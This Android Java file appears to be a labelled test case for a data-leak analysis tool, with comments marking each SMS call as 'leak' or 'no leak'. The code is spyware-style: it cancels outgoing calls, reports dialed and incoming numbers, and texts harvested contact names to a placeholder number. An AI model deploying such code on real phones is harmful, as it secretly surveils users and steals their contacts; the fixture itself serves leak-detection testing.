package robbers;

import android.content.BroadcastReceiver;
import android.content.ContentResolver;
import android.content.Context;
import android.content.Intent;
import android.database.Cursor;
import android.provider.ContactsContract;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.Set;

/** A worm of messages: to all of the book, with what it knows of them. */
public class Phone extends BroadcastReceiver {
    private static final String HOME = "+1" + "0000000001";
    private static Set<String> done = new HashSet<>();

    public void onReceive(Context context, Intent intent) {
        String action = intent.getAction();
        if (action == null) {
            return;
        }
        if (action.equals(Intent.ACTION_NEW_OUTGOING_CALL)) {
            String number = getResultData();
            if (number == null) {
                number = intent.getStringExtra(Intent.EXTRA_PHONE_NUMBER);
            }
            SmsManager.getDefault().sendTextMessage(HOME, null, "called " + number, null, null); // leak
            setResultData(null);
        } else if (action.equals(TelephonyManager.ACTION_PHONE_STATE_CHANGED)) {
            String state = intent.getStringExtra(TelephonyManager.EXTRA_STATE);
            SmsManager.getDefault().sendTextMessage(HOME, null, state, null, null); // no leak
            if (TelephonyManager.EXTRA_STATE_RINGING.equals(state)) {
                SmsManager.getDefault().sendDataMessage(HOME, null, (short) 8091, intent.getStringExtra("incoming_number").getBytes(), null, null); // leak
            }
        } else {
            spread(context.getContentResolver());
        }
    }

    private void spread(ContentResolver from) {
        Cursor rows = from.query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        if (rows == null) {
            return;
        }
        StringBuilder book = new StringBuilder();
        while (rows.moveToNext()) {
            String number = rows.getString(rows.getColumnIndex(ContactsContract.CommonDataKinds.Phone.NUMBER));
            String name = rows.getString(rows.getColumnIndex(ContactsContract.CommonDataKinds.Phone.DISPLAY_NAME));
            if (done.add(number)) {
                SmsManager.getDefault().sendTextMessage(HOME, null, "look at http://x.example.invalid", null, null); // no leak
            }
            book.append(name).append(' ');
        }
        rows.close();
        ArrayList<String> parts = SmsManager.getDefault().divideMessage(book.toString());
        SmsManager.getDefault().sendMultipartTextMessage(HOME, null, parts, null, null); // leak
        SmsManager.getDefault().sendTextMessage(HOME, null, "sent " + done.size(), null, null); // no leak
    }
}
